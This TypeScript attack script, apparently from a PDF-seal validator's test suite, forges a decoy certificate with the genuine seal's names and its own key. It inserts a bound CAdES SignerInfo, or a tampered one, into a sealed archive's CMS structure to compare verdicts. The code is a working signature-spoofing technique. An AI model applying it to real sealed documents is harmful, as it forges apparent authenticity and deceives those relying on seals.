// a18 (8c10c8d): a17 S2 again, with a SignerInfo that is bound. decidingSigner takes first a SignerInfo that verifies
// and whose ESS signing-certificate attribute names the certificate it verified with, preferred by sealIdentity
// (names only). Anyone can make one: a certificate with the seal's subject and issuer names and a key of one's own
// (the seal's TBS with another serial and public key, signed by that key), and a whole CAdES SignerInfo over the
// genuine byte ranges (contentType, the same messageDigest, ESS signingCertificateV2 naming that certificate).
//   npx tsx scripts/attack-s13/bound-decoy.ts [first|last|broken-first|junk-first]
// broken-first: no decoy; the genuine SignerInfo with one byte of its signature value flipped (and no unsigned
// attributes) put first: what pdfsig shows (it reads the first SignerInfo) against sealcheck's verdict. junk-first:
// the same without its signed attributes (it fits the real archive's /Contents gap).
import * as asn1js from "asn1js";
import * as pkijs from "pkijs";
import { createHash, createPublicKey, sign } from "node:crypto";
import { readFileSync } from "node:fs";
import { dss, save, sealGap, show, tool, verify, withSealContents, work } from "../attack36/lib.js";
import { withCmsField } from "../attack-s8/lib.js";
import { setElements, signedDataFields } from "../attack-s9/lib.js";
import { encode, oid, OIDS, raw, seq, set } from "../generator/der.js";
import { createSignedData, signingCertificateV2 } from "../generator/cms.js";
import { generateRsaKey } from "../generator/keys.js";
import type { Issued } from "../generator/pki.js";
import { derChildren, readTlv, type Tlv } from "../../src/pki/der.js";
import { decodeSignedData, findSignerCertificate } from "../../src/pki/cms.js";
import { certificateDer } from "../../src/pki/certificate.js";
import { pkiSession } from "../../src/pki/session.js";

const place = process.argv[2] ?? "first";
if (!["first", "last", "broken-first", "junk-first"].includes(place)) throw new Error("usage: [first|last|broken-first|junk-first]");
// REAL=1: the broker's real archive (test/fixtures/real/broker-example, --at its sealing time, its trust dir).
const REAL = process.env.REAL === "1" ? "test/fixtures/real/broker-example" : undefined;
const AT = "2025-12-08T09:35:10Z";
const pdf = new Uint8Array(readFileSync(REAL ? `${REAL}/archive.pdf` : "samples/valid/archive.pdf"));
const gap = sealGap(pdf);
const cms = gap.der;
const decoded = decodeSignedData(cms, "the seal", pkiSession(), true);
const seal = certificateDer(findSignerCertificate(decoded.signedData.signerInfos[0]!, decoded.certificates)!);

const key = generateRsaKey(2048);
const spki = new Uint8Array(createPublicKey(key).export({ type: "spki", format: "der" }));
const top = readTlv(seal, 0, seal.length, true)!;
const outer = derChildren(seal, top.body, top.end)!;
const tbs = outer[0]!;
const fields = derChildren(seal, tbs.body, tbs.end)!;
const bytes = (t: Tlv) => seal.subarray(t.start, t.end);
const at = fields[0]!.tag === 0xa0 ? 1 : 0;
const serial = encode(new asn1js.Integer({ valueHex: Uint8Array.from([0x7f, 0x18, 0xa1, 0x8e]) }));
const newTbs = encode(seq(...fields.map((t, i) => raw(i === at ? serial : i === at + 5 ? spki : bytes(t)))));
const decoyDer = encode(seq(raw(newTbs), raw(bytes(outer[1]!)), new asn1js.BitString({ valueHex: sign("sha256", newTbs, key) })));
const decoy: Issued = {
  role: "seal" as Issued["role"],
  der: decoyDer,
  pem: "",
  key,
  cert: pkijs.Certificate.fromBER(decoyDer),
};
const digest = new Uint8Array(createHash("sha256").update(pdf.subarray(0, gap.start)).update(pdf.subarray(gap.end)).digest());
const ownCms = createSignedData({
  signer: decoy,
  digest,
  certificates: [decoy],
  extraSignedAttributes: [seq(oid(OIDS.signingCertificateV2), set(signingCertificateV2(decoy)))],
});
const bound = setElements(signedDataFields(ownCms).fields.at(-1)!)[0]!;
const withCert = place.endsWith("-first") && place !== "first" ? cms : withCmsField(cms, 0xa0, [decoyDer]);
const f2 = signedDataFields(withCert);
const mine = setElements(f2.fields.at(-1)!);
const broken = (() => {
  const g = mine[0]!;
  const t = readTlv(g, 0, g.length)!;
  const parts = derChildren(g, t.body, t.end)!.map((x) => Uint8Array.from(g.subarray(x.start, x.end)));
  const sig = parts[5]!;
  sig[sig.length - 1] = sig[sig.length - 1]! ^ 1;
  const keep = place === "junk-first" ? [0, 1, 2, 4, 5] : [0, 1, 2, 3, 4, 5];
  return encode(seq(...keep.map((i) => raw(parts[i]!))));
})();
const signers = place === "first" ? [bound, ...mine] : place === "last" ? [...mine, bound] : [broken, ...mine]; // broken-first, junk-first
f2.fields[f2.fields.length - 1] = encode(new asn1js.Set({ value: signers.map(raw) }));
const out = withSealContents(pdf, f2.rebuild(f2.fields));

const file = save(work(`s13-bound-decoy-${REAL ? "real-" : ""}${place}`), "archive.pdf", out);
console.log(`wrote ${file}`);
const v = REAL ? verify(file, ["--at", AT], "", `${REAL}/trust`) : verify(file);
show(`bound decoy ${place}`, v);
const sig = tool("pdfsig", [file])
  .split("\n")
  .filter((l) => /Common Name|Validation|Total document/.test(l));
console.log(`== pdfsig: ${sig.map((l) => l.trim()).join(" | ")}`);
if (process.env.DSS === "1") dss(file, REAL ? AT : undefined, REAL ? `${REAL}/trust` : "samples/trust");
